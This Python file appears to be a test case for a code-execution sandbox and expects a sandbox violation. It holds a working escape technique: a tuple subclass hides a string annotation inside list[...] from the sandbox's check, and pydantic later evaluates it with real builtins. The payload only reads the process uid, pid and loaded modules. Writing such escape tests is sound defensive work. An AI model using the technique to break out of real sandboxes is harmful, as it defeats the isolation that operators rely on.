# expect: sandbox_violation
# attack: a tuple subclass as the arguments of list[...]: its own __iter__ shows the sandbox's
# string-annotation walk nothing, but types.GenericAlias keeps the real tuple (with a string in
# it); typing._eval_type, called by pydantic on every field annotation, iterates it again (now
# answering with the real items), turns the string into a ForwardRef and evals it with the
# real builtins
from pydantic import BaseModel
from nango import create_action

seen = []
CODE = (
    "__import__('typing').Literal[repr((__import__('os').getuid(), __import__('os').getpid(),"
    " open.__module__, sorted(__import__('sys').modules)[:3]))]"
)


class Sly(tuple):
    def __iter__(self):
        seen.append(len(seen))
        if len(seen) <= LIMIT[0]:
            return iter(())
        return super().__iter__()


LIMIT = [100]


def run(nango, input):
    args = Sly((CODE,))
    alias = list[args]
    LIMIT[0] = len(seen) + 2

    class Model(BaseModel):
        items: alias = []

    return {"iterations": len(seen), "annotation": str(Model.model_fields["items"].annotation)}


action = create_action(description="escape attempt", exec=run)
